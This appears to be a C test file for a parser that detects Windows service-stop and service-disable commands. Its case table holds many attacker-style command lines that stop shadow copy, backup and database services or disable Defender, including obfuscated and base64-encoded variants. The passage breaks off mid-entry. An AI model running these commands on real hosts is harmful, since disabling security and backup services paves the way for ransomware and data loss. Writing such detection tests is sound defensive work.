/* test_svc_action.c: table-driven test of the service-action parser: every form and
 * look-alike of T1489.md, the command lines of the test corpus, the textbook rule,
 * limits, and garbage input. Exit 0 when everything passes. */

#include "svc_action.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define D SVC_DIRECT
#define L SVC_LAUNCHER

struct want {
	const char *rule, *tool, *verb, *service, *host;
	enum svc_role role;
	const char *why;	/* NULL: not compared */
};

struct tcase {
	const char *line;
	const char *image;
	struct want w[4];	/* ends at the first rule == NULL */
};

#define END { NULL, NULL, NULL, NULL, NULL, D, NULL }
#define NONE(line) { line, NULL, { END } }
#define ONE(line, ...) { line, NULL, { { __VA_ARGS__ }, END } }

/* Base64 of UTF-16LE, made with: printf '%s' 'TEXT' | iconv -t UTF-16LE | base64 -w0 */
#define B64_STOP_WINDEFEND "UwB0AG8AcAAtAFMAZQByAHYAaQBjAGUAIABXAGkAbgBEAGUAZgBlAG4AZAA="
#define B64_VEEAM_PIPE \
	"RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAVgBlAGUAYQBtACoAIAB8ACAAUwB0AG8AcAAtAFMAZQByAHYAaQBj" \
	"AGUAIAAtAEYAbwByAGMAZQA="
#define B64_NET_STOP_VSS "bgBlAHQAIABzAHQAbwBwACAAdgBzAHMA"
/* (Get-Service "<U+1F600>svc").Stop(): a surrogate pair */
#define B64_EMOJI "KABHAGUAdAAtAFMAZQByAHYAaQBjAGUAIAAiAD3YAN5zAHYAYwAiACkALgBTAHQAbwBwACgAKQA="
/* Stop-Service a<lone U+D800>x */
#define B64_LONE "UwB0AG8AcAAtAFMAZQByAHYAaQBjAGUAIABhAADYeAA="
#define B64_SET_DISABLED \
	"UwBlAHQALQBTAGUAcgB2AGkAYwBlACAALQBOAGEAbQBlACAAVwBpAG4ARABlAGYAZQBuAGQAIAAtAFMAdABh" \
	"AHIAdAB1AHAAVAB5AHAAZQAgAEQAaQBzAGEAYgBsAGUAZAA="
/* Stop-Service vss, padding removed */
#define B64_NOPAD "UwB0AG8AcAAtAFMAZQByAHYAaQBjAGUAIAB2AHMAcwA"
/* powershell -enc <Stop-Service WinDefend> */
#define B64_NESTED \
	"cABvAHcAZQByAHMAaABlAGwAbAAgAC0AZQBuAGMAIABVAHcAQgAwAEEARwA4AEEAYwBBAEEAdABBAEYATQBB" \
	"AFoAUQBCAHkAQQBIAFkAQQBhAFEAQgBqAEEARwBVAEEASQBBAEIAWABBAEcAawBBAGIAZwBCAEUAQQBHAFUA" \
	"QQBaAGcAQgBsAEEARwA0AEEAWgBBAEEAPQA="
/* corpus, mdecrevoisier T1047: Invoke-WmiMethod -Path win32_process -Name create
 * -ArgumentList notepad.exe */
#define B64_CORPUS_WMI \
	"SQBuAHYAbwBrAGUALQBXAG0AaQBNAGUAdABoAG8AZAAgAC0AUABhAHQAaAAgAHcAaQBuADMAMgBfAHAAcgBv" \
	"AGMAZQBzAHMAIAAtAE4AYQBtAGUAIABjAHIAZQBhAHQAZQAgAC0AQQByAGcAdQBtAGUAbgB0AEwAaQBzAHQA" \
	"IABuAG8AdABlAHAAYQBkAC4AZQB4AGUA"

static const struct tcase cases[] = {
	/* ---- the seed record and net / net1 ---- */
	ONE("net  stop vmtools", "net_stop", "net", "stop", "vmtools", "", D, "net stop vmtools"),
	ONE("net stop vmtools", "net_stop", "net", "stop", "vmtools", "", D, "net stop vmtools"),
	ONE("net1 stop vmtools", "net_stop", "net", "stop", "vmtools", "", D, "net1 stop vmtools"),
	ONE("net1  stop vmtools /y", "net_stop", "net", "stop", "vmtools", "", D, "net1 stop vmtools"),
	ONE("net.exe stop vss", "net_stop", "net", "stop", "vss", "", D, "net stop vss"),
	ONE("NET.EXE STOP vss", "net_stop", "net", "stop", "vss", "", D, "net stop vss"),
	ONE("Net1.Exe Stop VSS", "net_stop", "net", "stop", "VSS", "", D, "net1 stop VSS"),
	ONE("\"C:\\Windows\\system32\\net.exe\" stop vss", "net_stop", "net", "stop", "vss", "", D,
	    "net stop vss"),
	ONE("C:\\Windows\\system32\\net1 stop vss", "net_stop", "net", "stop", "vss", "", D,
	    "net1 stop vss"),
	ONE("\"C:\\Windows\\SysWOW64\\NET1.EXE\"  stop  vss", "net_stop", "net", "stop", "vss", "", D,
	    "net1 stop vss"),
	ONE("%SystemRoot%\\System32\\net.exe stop vss", "net_stop", "net", "stop", "vss", "", D, NULL),
	ONE("net stop \"Volume Shadow Copy\"", "net_stop", "net", "stop", "Volume Shadow Copy", "", D,
	    "net stop \"Volume Shadow Copy\""),
	ONE("net stop MSSQL$SQLEXPRESS /y", "net_stop", "net", "stop", "MSSQL$SQLEXPRESS", "", D, NULL),
	ONE("net /y stop vss", "net_stop", "net", "stop", "vss", "", D, NULL),
	ONE("net\tstop\t\tvss", "net_stop", "net", "stop", "vss", "", D, "net stop vss"),
	ONE("   net stop vss", "net_stop", "net", "stop", "vss", "", D, NULL),
	ONE("net st\"o\"p vss", "net_stop", "net", "stop", "vss", "", D, "net stop vss"),
	ONE("n\"e\"t stop vss", "net_stop", "net", "stop", "vss", "", D, "net stop vss"),
	ONE("net stop \"vss\"\"\"", "net_stop", "net", "stop", "vss\"", "", D, NULL),
	ONE("net stop v\\\"ss", "net_stop", "net", "stop", "v\"ss", "", D, NULL),
	ONE("net pause vss", "net_pause", "net", "pause", "vss", "", D, "net pause vss"),
	NONE("net start vmtools"),
	NONE("net stop"),
	NONE("net stop \"\""),
	NONE("net user"),
	NONE("net  share"),
	NONE("net stopp vss"),
	NONE("net ^stop vss"),
	NONE("netstop vss"),
	NONE("\"C:\\Windows\\system32\\net.exe\" start MSSQL$RADAR /m"),
	NONE("C:\\Windows\\system32\\net1 start MSSQL$RADAR /m"),
	NONE("C:\\Windows\\system32\\net1  localgroup administrators guest /ADD"),
	NONE("GRB_NET.exe  -m:scan -i:f -d:list.txt"),
	NONE("\"C:\\net stop.exe\" vss"),

	/* ---- sc ---- */
	ONE("sc stop vss", "sc_stop", "sc", "stop", "vss", "", D, "sc stop vss"),
	ONE("sc.exe stop vss", "sc_stop", "sc", "stop", "vss", "", D, "sc stop vss"),
	ONE("SC.EXE STOP vss", "sc_stop", "sc", "stop", "vss", "", D, "sc stop vss"),
	ONE("\"C:\\Windows\\System32\\sc.exe\" stop vss", "sc_stop", "sc", "stop", "vss", "", D, NULL),
	ONE("sc.exe \\\\fs01 stop vss", "sc_stop", "sc", "stop", "vss", "fs01", D, "sc \\\\fs01 stop vss"),
	ONE("sc \\\\10.0.0.5 config vss start= disabled", "sc_config_disabled", "sc", "disable", "vss",
	    "10.0.0.5", D, "sc \\\\10.0.0.5 config vss start= disabled"),
	ONE("sc \\\\fs01 config vss start= disabled", "sc_config_disabled", "sc", "disable", "vss",
	    "fs01", D, "sc \\\\fs01 config vss start= disabled"),
	ONE("sc config WinDefend start= disabled", "sc_config_disabled", "sc", "disable", "WinDefend",
	    "", D, "sc config WinDefend start= disabled"),
	ONE("sc config WinDefend start=disabled", "sc_config_disabled", "sc", "disable", "WinDefend",
	    "", D, "sc config WinDefend start=disabled"),
	ONE("sc config WinDefend START= DISABLED", "sc_config_disabled", "sc", "disable", "WinDefend",
	    "", D, NULL),
	ONE("sc config WinDefend type= own start= disabled error= normal", "sc_config_disabled", "sc",
	    "disable", "WinDefend", "", D, NULL),
	ONE("sc config WinDefend start= \"disabled\"", "sc_config_disabled", "sc", "disable",
	    "WinDefend", "", D, NULL),
	ONE("sc delete evilsvc", "sc_delete", "sc", "delete", "evilsvc", "", D, "sc delete evilsvc"),
	ONE("sc pause vss", "sc_pause", "sc", "pause", "vss", "", D, "sc pause vss"),
	ONE("sc st\"o\"p vss", "sc_stop", "sc", "stop", "vss", "", D, "sc stop vss"),
	ONE("sc \"stop\" \"vss\"", "sc_stop", "sc", "stop", "vss", "", D, NULL),
	NONE("sc query vss"),
	NONE("sc qc vss"),
	NONE("sc start vss"),
	NONE("sc \\\\fs01 query vss"),
	NONE("sc config vss start= auto"),
	NONE("sc config vss start= demand"),
	NONE("sc config vss start=delayed-auto"),
	NONE("sc config vss start= disabled start= auto"),
	NONE("sc config vss"),
	NONE("sc stop"),
	NONE("sc create x binPath= \"cmd /c net stop vss\""),
	NONE("sc description vss \"net stop vss\""),

	/* ---- image path as fallback for argv[0] ---- */
	{ "NET~1.EXE stop vss", "C:\\Windows\\System32\\net.exe",
	  { { "net_stop", "net", "stop", "vss", "", D, "net stop vss" }, END } },
	{ "x.exe \\\\fs01 stop vss", "C:\\Windows\\System32\\sc.exe",
	  { { "sc_stop", "sc", "stop", "vss", "fs01", D, "sc \\\\fs01 stop vss" }, END } },
	{ "", "C:\\Windows\\System32\\net.exe", { END } },
	{ "stop vss", "C:\\Windows\\System32\\net.exe", { END } },
	{ "notepad \"C:\\net stop.txt\"", "C:\\Windows\\System32\\notepad.exe", { END } },

	/* ---- cmd.exe ---- */
	ONE("cmd /c net stop vss", "net_stop", "net", "stop", "vss", "", L, "cmd /c: net stop vss"),
	ONE("cmd.exe /c \"net stop vss\"", "net_stop", "net", "stop", "vss", "", L,
	    "cmd /c: net stop vss"),
	ONE("cmd /C net  stop vmtools", "net_stop", "net", "stop", "vmtools", "", L, NULL),
	ONE("cmd /k sc stop vss", "sc_stop", "sc", "stop", "vss", "", L, "cmd /k: sc stop vss"),
	ONE("cmd /c n^et stop vss", "net_stop", "net", "stop", "vss", "", L, "cmd /c: net stop vss"),
	ONE("cmd /c \"n^et st^op v^ss\"", "net_stop", "net", "stop", "vss", "", L, NULL),
	ONE("cmd /c sc st\"o\"p vss", "sc_stop", "sc", "stop", "vss", "", L, "cmd /c: sc stop vss"),
	{ "cmd.exe /c \"net stop vss & sc stop wuauserv\"", NULL,
	  { { "net_stop", "net", "stop", "vss", "", L, "cmd /c: net stop vss" },
	    { "sc_stop", "sc", "stop", "wuauserv", "", L, "cmd /c: sc stop wuauserv" }, END } },
	{ "cmd /c net stop a && net stop b || sc config c start= disabled", NULL,
	  { { "net_stop", "net", "stop", "a", "", L, NULL },
	    { "net_stop", "net", "stop", "b", "", L, NULL },
	    { "sc_config_disabled", "sc", "disable", "c", "", L, NULL }, END } },
	{ "cmd /c (net stop a & net stop b)", NULL,
	  { { "net_stop", "net", "stop", "a", "", L, NULL },
	    { "net_stop", "net", "stop", "b", "", L, NULL }, END } },
	ONE("cmd /c \"net stop vss >nul 2>&1\"", "net_stop", "net", "stop", "vss", "", L, NULL),
	ONE("cmd /c net stop vss 2>nul", "net_stop", "net", "stop", "vss", "", L, NULL),
	ONE("cmd /c \"net stop vss 2>&1 | findstr /i stop\"", "net_stop", "net", "stop", "vss", "", L,
	    NULL),
	ONE("cmd /c @net stop vss", "net_stop", "net", "stop", "vss", "", L, NULL),
	ONE("cmd /c \"echo y| net stop vss\"", "net_stop", "net", "stop", "vss", "", L, NULL),
	ONE("cmd.exe /c \"start /b cmd /c net stop vss\"", "net_stop", "net", "stop", "vss", "", L,
	    "cmd /c: cmd /c: net stop vss"),
	{ "cmd /c \"sc config \"WinDefend\" start= disabled && sc stop \"WinDefend\"\"", NULL,
	  { { "sc_config_disabled", "sc", "disable", "WinDefend", "", L, NULL },
	    { "sc_stop", "sc", "stop", "WinDefend", "", L, NULL }, END } },
	ONE("cmd /c call net stop vss", "net_stop", "net", "stop", "vss", "", L, NULL),
	ONE("cmd /c start \"\" /b sc stop vss", "sc_stop", "sc", "stop", "vss", "", L, NULL),
	ONE("cmd /c start /min net stop vss", "net_stop", "net", "stop", "vss", "", L, NULL),
	ONE("cmd /c if exist C:\\x.txt net stop vss", "net_stop", "net", "stop", "vss", "", L, NULL),
	ONE("cmd /c if /i \"%a%\"==\"x\" net stop vss", "net_stop", "net", "stop", "vss", "", L, NULL),
	{ "cmd /c \"if exist C:\\x.txt (net stop a) else (net stop b)\"", NULL,
	  { { "net_stop", "net", "stop", "a", "", L, NULL },
	    { "net_stop", "net", "stop", "b", "", L, NULL }, END } },
	ONE("cmd /c for %s in (vss wuauserv) do net stop %s", "net_stop", "net", "stop", "%s", "", L,
	    "cmd /c: net stop %s"),
	ONE("cmd /c \"for /f %i in (list.txt) do (sc config %i start= disabled)\"",
	    "sc_config_disabled", "sc", "disable", "%i", "", L, NULL),
	ONE("cmd /s /c \"\"C:\\Windows\\System32\\net.exe\" stop vss\"", "net_stop", "net", "stop",
	    "vss", "", L, NULL),
	ONE("cmd /c \"C:\\Program Files\\Tools\\net.exe\" stop vss", "net_stop", "net", "stop", "vss",
	    "", L, NULL),
	ONE("C:\\Windows\\system32\\cmd.exe /Q /D /C \"sc stop vss\"", "sc_stop", "sc", "stop", "vss",
	    "", L, NULL),
	ONE("\"C:\\Windows\\system32\\cmd.exe\" /c\"net stop vss\"", "net_stop", "net", "stop", "vss",
	    "", L, NULL),
	ONE("%COMSPEC% /c net stop vss", "net_stop", "net", "stop", "vss", "", L, NULL),
	ONE("cmd /c cmd /c net stop vss", "net_stop", "net", "stop", "vss", "", L,
	    "cmd /c: cmd /c: net stop vss"),
	ONE("cmd /c \"cmd /c \"net stop vss\"\"", "net_stop", "net", "stop", "vss", "", L,
	    "cmd /c: cmd /c: net stop vss"),
	NONE("cmd /c \"cmd /c \"\"net stop vss\"\"\""),
	NONE("cmd /c echo net stop vss"),
	NONE("cmd /c echo (net stop vss)"),
	NONE("cmd /c \"echo net stop vss | findstr stop\""),
	NONE("cmd /c type \"C:\\net stop x.txt\""),
	NONE("cmd /c rem net stop vss"),
	NONE("cmd /c set x=net stop vss"),
	NONE("cmd /c findstr /i \"net stop\" C:\\logs\\a.txt"),
	NONE("cmd /c \"net start vss & sc query vss\""),
	NONE("cmd net stop vss"),
	NONE("cmd /q"),
	NONE("cmd /c"),
	NONE("cmd /c \"\""),

	/* ---- PowerShell cmdlets ---- */
	ONE("powershell Stop-Service vss", "ps_stop_service", "powershell", "stop", "vss", "", D,
	    "powershell -command: stop-service vss"),
	ONE("powershell.exe -Command \"Stop-Service -Name vss -Force\"", "ps_stop_service",
	    "powershell", "stop", "vss", "", D, "powershell -command: stop-service vss"),
	ONE("powershell -c Stop-Service vss", "ps_stop_service", "powershell", "stop", "vss", "", D,
	    NULL),
	ONE("powershell /c Stop-Service vss", "ps_stop_service", "powershell", "stop", "vss", "", D,
	    NULL),
	ONE("pwsh -NoProfile -Command \"Stop-Service vss\"", "ps_stop_service", "powershell", "stop",
	    "vss", "", D, "pwsh -command: stop-service vss"),
	ONE("\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -ep "
	    "bypass -noni -c \"Stop-Service vss\"", "ps_stop_service", "powershell", "stop", "vss", "",
	    D, NULL),
	ONE("powershell -ExecutionPolicy Bypass -WindowStyle Hidden Stop-Service vss",
	    "ps_stop_service", "powershell", "stop", "vss", "", D, NULL),
	ONE("powershell Get-Service vss | Stop-Service", "ps_stop_service", "powershell", "stop", "vss",
	    "", D, "powershell -command: get-service vss | stop-service"),
	ONE("powershell \"Get-Service Veeam* | Stop-Service -Force\"", "ps_stop_service", "powershell",
	    "stop", "Veeam*", "", D, "powershell -command: get-service Veeam* | stop-service"),
	ONE("powershell \"Get-Service -Name Veeam* | Where-Object {$_.Status -eq 'Running'} | "
	    "Stop-Service\"", "ps_stop_service", "powershell", "stop", "Veeam*", "", D, NULL),
	ONE("powershell \"Get-Service | Stop-Service\"", "ps_stop_service", "powershell", "stop", "",
	    "", D, "powershell -command: get-service | stop-service"),
	ONE("powershell \"Get-Service -ComputerName fs01 -Name vss | Stop-Service\"",
	    "ps_stop_service", "powershell", "stop", "vss", "fs01", D, NULL),
	ONE("powershell \"Get-Content C:\\list.txt | Stop-Service\"", "ps_stop_service", "powershell",
	    "stop", "", "", D, "powershell -command: stop-service"),
	ONE("powershell \"'vss' | Stop-Service\"", "ps_stop_service", "powershell", "stop", "vss", "",
	    D, NULL),
	ONE("powershell spsv vss", "ps_stop_service", "powershell", "stop", "vss", "", D,
	    "powershell -command: stop-service vss"),
	ONE("powershell \"SPSV -Name vss\"", "ps_stop_service", "powershell", "stop", "vss", "", D,
	    NULL),
	ONE("powershell \"Microsoft.PowerShell.Management\\Stop-Service vss\"", "ps_stop_service",
	    "powershell", "stop", "vss", "", D, NULL),
	ONE("powershell \"Stop-Service -DisplayName 'Windows Defender Antivirus Service'\"",
	    "ps_stop_service", "powershell", "stop", "Windows Defender Antivirus Service", "", D,
	    "powershell -command: stop-service \"Windows Defender Antivirus Service\""),
	ONE("powershell \"Stop-Service -Name:vss\"", "ps_stop_service", "powershell", "stop", "vss",
	    "", D, NULL),
	ONE("powershell \"Stop-Service -na vss -fo\"", "ps_stop_service", "powershell", "stop", "vss",
	    "", D, NULL),
	ONE("powershell \"Stop-Service -ServiceName vss -ErrorAction SilentlyContinue\"",
	    "ps_stop_service", "powershell", "stop", "vss", "", D, NULL),
	ONE("powershell \"Stop-Service -InputObject (Get-Service vss)\"", "ps_stop_service",
	    "powershell", "stop", "vss", "", D, "powershell -command: get-service vss | stop-service"),
	ONE("powershell \"$n = 'vss'; Stop-Service $n\"", "ps_stop_service", "powershell", "stop",
	    "vss", "", D, NULL),
	ONE("powershell \"Stop-Service $svc\"", "ps_stop_service", "powershell", "stop", "$svc", "", D,
	    NULL),
	ONE("powershell Stop-Service \xe2\x80\x93Name vss", "ps_stop_service", "powershell", "stop",
	    "vss", "", D, NULL),
	ONE("powershell Stop-Service \xe2\x80\x94Name vss", "ps_stop_service", "powershell", "stop",
	    "vss", "", D, NULL),
	ONE("powershell Stop-Service \xe2\x80\x95Name vss", "ps_stop_service", "powershell", "stop",
	    "vss", "", D, NULL),
	ONE("powershell \xe2\x80\x93" "Command Stop-Service vss", "ps_stop_service", "powershell", "stop",
	    "vss", "", D, NULL),
	ONE("powershell \"Stop-Service \xe2\x80\x98vss\xe2\x80\x99\"", "ps_stop_service", "powershell",
	    "stop", "vss", "", D, NULL),
	ONE("powershell -c \"Stop-Service\xc2\xa0vss\"", "ps_stop_service", "powershell", "stop", "vss",
	    "", D, NULL),
	ONE("powershell \"Sto`p-Servi`ce vss\"", "ps_stop_service", "powershell", "stop", "vss", "", D,
	    "powershell -command: stop-service vss"),
	ONE("powershell \"St'op'-Service vss\"", "ps_stop_service", "powershell", "stop", "vss", "", D,
	    NULL),
	ONE("powershell \"& ('Stop-'+'Service') vss\"", "ps_stop_service", "powershell", "stop", "vss",
	    "", D, NULL),
	ONE("powershell \"& 'Stop-Service' vss\"", "ps_stop_service", "powershell", "stop", "vss", "",
	    D, NULL),
	ONE("powershell \"Write-Host x; Stop-Service vss\"", "ps_stop_service", "powershell", "stop",
	    "vss", "", D, NULL),
	ONE("powershell \"if ($true) { Stop-Service vss }\"", "ps_stop_service", "powershell", "stop",
	    "vss", "", D, NULL),
	ONE("powershell \"try { Stop-Service vss -ErrorAction Stop } catch { }\"", "ps_stop_service",
	    "powershell", "stop", "vss", "", D, NULL),
	ONE("powershell \"Stop-Service -Name vss -WhatIf:$false\"", "ps_stop_service", "powershell",
	    "stop", "vss", "", D, NULL),
	{ "powershell \"Stop-Service -Name vss,wuauserv\"", NULL,
	  { { "ps_stop_service", "powershell", "stop", "vss", "", D, NULL },
	    { "ps_stop_service", "powershell", "stop", "wuauserv", "", D, NULL }, END } },
	ONE("powershell \"Suspend-Service vss\"", "ps_suspend_service", "powershell", "pause", "vss",
	    "", D, "powershell -command: suspend-service vss"),
	ONE("pwsh -c \"Remove-Service evilsvc\"", "ps_remove_service", "powershell", "delete",
	    "evilsvc", "", D, "pwsh -command: remove-service evilsvc"),
	ONE("powershell \"Set-Service -Name WinDefend -StartupType Disabled\"",
	    "ps_set_service_disabled", "powershell", "disable", "WinDefend", "", D,
	    "powershell -command: set-service WinDefend -startuptype disabled"),
	ONE("powershell \"Set-Service WinDefend -StartMode disabled\"", "ps_set_service_disabled",
	    "powershell", "disable", "WinDefend", "", D, NULL),
	ONE("powershell \"Set-Service -ComputerName fs01 -Name vss -StartupType Disabled\"",
	    "ps_set_service_disabled", "powershell", "disable", "vss", "fs01", D, NULL),
	ONE("powershell \"Set-Service WinDefend -Status Stopped\"", "ps_set_service_stopped",
	    "powershell", "stop", "WinDefend", "", D,
	    "powershell -command: set-service WinDefend -status stopped"),
	{ "powershell \"Set-Service vss -StartupType Disabled -Status Stopped\"", NULL,
	  { { "ps_set_service_disabled", "powershell", "disable", "vss", "", D, NULL },
	    { "ps_set_service_stopped", "powershell", "stop", "vss", "", D, NULL }, END } },
	{ "powershell \"Get-Service vss | Stop-Service -PassThru | Set-Service -StartupType Disabled\"",
	  NULL, { { "ps_stop_service", "powershell", "stop", "vss", "", D, NULL },
		  { "ps_set_service_disabled", "powershell", "disable", "vss", "", D,
		    "powershell -command: get-service vss | set-service -startuptype disabled" },
		  END } },
	{ "powershell -c \"Get-Service -Name MSSQL* | Set-Service -StartupType Disabled -PassThru | "
	  "Stop-Service -Force\"", NULL,
	  { { "ps_set_service_disabled", "powershell", "disable", "MSSQL*", "", D, NULL },
	    { "ps_stop_service", "powershell", "stop", "MSSQL*", "", D, NULL }, END } },
	ONE("powershell -c \"Get-Service -Name 'Sophos*' | ForEach-Object { Stop-Service $_ -Force "
	    "}\"", "ps_stop_service", "powershell", "stop", "Sophos*", "", D,
	    "powershell -command: get-service Sophos* | stop-service"),
	{ "powershell \"$services = @('vss','wuauserv'); foreach ($s in $services) { Stop-Service $s "
	  "}\"", NULL,
	  { { "ps_stop_service", "powershell", "stop", "vss", "", D, NULL },
	    { "ps_stop_service", "powershell", "stop", "wuauserv", "", D, NULL }, END } },
	ONE("powershell -c \"Stop-Service -Name (Get-Content C:\\x.txt)\"", "ps_stop_service",
	    "powershell", "stop", "", "", D, NULL),
	ONE("powershell -c \"Get-WmiObject Win32_Service | Where-Object {$_.Name -eq 'vss'} | "
	    "ForEach-Object { $_.StopService() }\"", "wmi_stop_service", "powershell", "stop", "", "",
	    D, "powershell -command: (get-wmiobject win32_service).stopservice()"),
	ONE("powershell \"Get-Service vss | Set-Service -StartupType Disabled\"",
	    "ps_set_service_disabled", "powershell", "disable", "vss", "", D,
	    "powershell -command: get-service vss | set-service -startuptype disabled"),
	ONE("powershell \"(Get-Service vss).Stop()\"", "ps_service_stop_method", "powershell", "stop",
	    "vss", "", D, "powershell -command: (get-service vss).stop()"),
	ONE("powershell (gsv vss).Stop()", "ps_service_stop_method", "powershell", "stop", "vss", "", D,
	    NULL),
	ONE("powershell \"$s = Get-Service -Name vss; $s.Stop()\"", "ps_service_stop_method",
	    "powershell", "stop", "vss", "", D, "powershell -command: (get-service vss).stop()"),
	ONE("powershell \"$s = Get-Service vss\n$s.Stop()\"", "ps_service_stop_method", "powershell",
	    "stop", "vss", "", D, NULL),
	ONE("powershell \"Get-Service vss | ForEach-Object { $_.Stop() }\"", "ps_service_stop_method",
	    "powershell", "stop", "vss", "", D, NULL),
	ONE("powershell \"gsv vss | % { $PSItem.Stop() }\"", "ps_service_stop_method", "powershell",
	    "stop", "vss", "", D, NULL),
	ONE("powershell \"gsv vss | % Stop\"", "ps_service_stop_method", "powershell", "stop", "vss",
	    "", D, NULL),
	ONE("powershell \"foreach ($s in Get-Service vss) { $s.Stop() }\"", "ps_service_stop_method",
	    "powershell", "stop", "vss", "", D, NULL),
	ONE("powershell \"[System.ServiceProcess.ServiceController]::new('vss').Stop()\"",
	    "ps_service_stop_method", "powershell", "stop", "vss", "", D,
	    "powershell -command: ([servicecontroller]::new vss).stop()"),
	ONE("powershell \"(New-Object System.ServiceProcess.ServiceController('vss','fs01')).Stop()\"",
	    "ps_service_stop_method", "powershell", "stop", "vss", "fs01", D, NULL),
	ONE("powershell \"(Get-Service vss).Pause()\"", "ps_service_pause_method", "powershell",
	    "pause", "vss", "", D, NULL),
	ONE("powershell \"iex 'Stop-Service vss'\"", "ps_stop_service", "powershell", "stop", "vss",
	    "", D, "powershell -command: invoke-expression: stop-service vss"),
	ONE("powershell \"Invoke-Expression -Command \\\"Stop-Service vss\\\"\"", "ps_stop_service",
	    "powershell", "stop", "vss", "", D, NULL),
	ONE("powershell \"'Stop-Service vss' | iex\"", "ps_stop_service", "powershell", "stop", "vss",
	    "", D, NULL),
	ONE("powershell -c \"iex @'\nStop-Service vss\n'@\"", "ps_stop_service", "powershell", "stop",
	    "vss", "", D, NULL),
	ONE("powershell \"Invoke-Command -ComputerName fs01 -ScriptBlock { Stop-Service vss }\"",
	    "ps_stop_service", "powershell", "stop", "vss", "fs01", L,
	    "powershell -command: invoke-command -computername fs01: stop-service vss"),
	ONE("powershell \"Invoke-Command { Stop-Service vss }\"", "ps_stop_service", "powershell",
	    "stop", "vss", "", D, NULL),
	ONE("powershell \"& { Stop-Service vss }\"", "ps_stop_service", "powershell", "stop", "vss", "",
	    D, NULL),
	ONE("powershell \"Set-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Services\\WinDefend "
	    "-Name Start -Value 4\"", "ps_reg_start_disabled", "powershell", "disable", "WinDefend", "",
	    D, NULL),
	ONE("powershell \"New-ItemProperty 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\Sense' -Name "
	    "Start -Value 4 -PropertyType DWord -Force\"", "ps_reg_start_disabled", "powershell",
	    "disable", "Sense", "", D, NULL),
	NONE("powershell \"Stop-Service vss -WhatIf\""),
	NONE("powershell Stop-Service"),
	NONE("powershell \"Stop-Service -Name\""),
	NONE("powershell \"Stop-Service -Name -Force\""),
	NONE("powershell \"Stop-Ser`vice vss\""),
	NONE("powershell \"Set-Service vss -StartupType Automatic\""),
	NONE("powershell \"Set-Service vss -StartupType Manual -Status Running\""),
	NONE("powershell \"Set-Service vss -DisplayName 'Stopped'\""),
	NONE("powershell \"Get-Service vss\""),
	NONE("powershell \"Start-Service vss\""),
	NONE("powershell \"Restart-Service vss\""),
	NONE("powershell Stop-Process -Name sqlservr -Force"),
	NONE("powershell \"Stop-Process -Name MsMpEng; Stop-Job 1; Stop-Transcript\""),
	NONE("powershell \"Get-Process sqlservr | Stop-Process\""),
	NONE("powershell \"Set-MpPreference -DisableRealtimeMonitoring $true\""),
	NONE("powershell \"Set-MpPreference -DisableIOAVProtection Disabled\""),
	NONE("powershell \"Write-Output 'net stop vss'\""),
	NONE("powershell \"Write-Host 'Stop-Service vss'\""),
	NONE("powershell \"Select-String -Pattern 'net stop' -Path C:\\logs\\a.txt\""),
	NONE("powershell \"Get-Content x.txt | Select-String 'Stop-Service'\""),
	NONE("powershell \"# Stop-Service vss\""),
	NONE("powershell \"<# Stop-Service vss #> Get-Date\""),
	NONE("powershell \"$sw = [Diagnostics.Stopwatch]::StartNew(); $sw.Stop()\""),
	NONE("powershell \"$timer.Stop(); $x.Stop()\""),
	NONE("powershell \"(Get-Process notepad).Kill()\""),
	NONE("powershell \"Set-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Services\\vss "
	     "-Name Start -Value 2\""),
	NONE("powershell -c \"Remove-Service evilsvc\""),
	NONE("powershell -File C:\\x\\Stop-Service.ps1 vss"),
	NONE("powershell -Command -"),
	NONE("powershell"),

	/* ---- PowerShell running native programs, Start-Process, WMI Create ---- */
	NONE("powershell -c \"sc stop vss\""),
	ONE("pwsh -c \"sc stop vss\"", "sc_stop", "sc", "stop", "vss", "", L,
	    "pwsh -command: sc stop vss"),
	ONE("powershell -c \"sc.exe stop vss\"", "sc_stop", "sc", "stop", "vss", "", L,
	    "powershell -command: sc stop vss"),
	ONE("powershell -c \"sc.exe config vss start= disabled\"", "sc_config_disabled", "sc",
	    "disable", "vss", "", L, NULL),
	ONE("powershell -c \"net stop vss\"", "net_stop", "net", "stop", "vss", "", L,
	    "powershell -command: net stop vss"),
	ONE("powershell -c \"& 'C:\\Windows\\System32\\net.exe' stop vss\"", "net_stop", "net", "stop",
	    "vss", "", L, NULL),
	ONE("powershell -c \"sc.exe --% stop vss\"", "sc_stop", "sc", "stop", "vss", "", L, NULL),
	ONE("powershell -c \"cmd /c 'net stop vss'\"", "net_stop", "net", "stop", "vss", "", L,
	    "powershell -command: cmd /c: net stop vss"),
	ONE("powershell \"Start-Process sc.exe -ArgumentList 'stop vss'\"", "sc_stop", "sc", "stop",
	    "vss", "", L, "powershell -command: start-process: sc stop vss"),
	ONE("powershell \"Start-Process -FilePath net -ArgumentList 'stop','vss' -WindowStyle Hidden\"",
	    "net_stop", "net", "stop", "vss", "", L, NULL),
	ONE("powershell \"start sc 'stop vss'\"", "sc_stop", "sc", "stop", "vss", "", L, NULL),
	ONE("powershell \"Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'net stop "
	    "vss'\"", "net_stop", "net", "stop", "vss", "", L,
	    "powershell -command: invoke-wmimethod win32_process create: net stop vss"),
	ONE("powershell \"Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments "
	    "@{CommandLine='sc stop vss'}\"", "sc_stop", "sc", "stop", "vss", "", L, NULL),

	/* ---- WMI / CIM from PowerShell ---- */
	ONE("powershell \"(Get-WmiObject Win32_Service -Filter \\\"Name='vss'\\\").StopService()\"",
	    "wmi_stop_service", "powershell", "stop", "vss", "", D,
	    "powershell -command: (get-wmiobject win32_service vss).stopservice()"),
	ONE("powershell \"Get-CimInstance -ClassName Win32_Service -Filter \\\"Name='vss'\\\" | "
	    "Invoke-CimMethod -MethodName StopService\"", "wmi_stop_service", "powershell", "stop",
	    "vss", "", D,
	    "powershell -command: get-ciminstance win32_service vss | invoke-cimmethod stopservice"),
	ONE("powershell \"Invoke-CimMethod -Query \\\"SELECT * FROM Win32_Service WHERE "
	    "Name='vss'\\\" -MethodName StopService\"", "wmi_stop_service", "powershell", "stop", "vss",
	    "", D, NULL),
	ONE("powershell \"Invoke-WmiMethod -Path \\\"Win32_Service.Name='vss'\\\" -Name StopService\"",
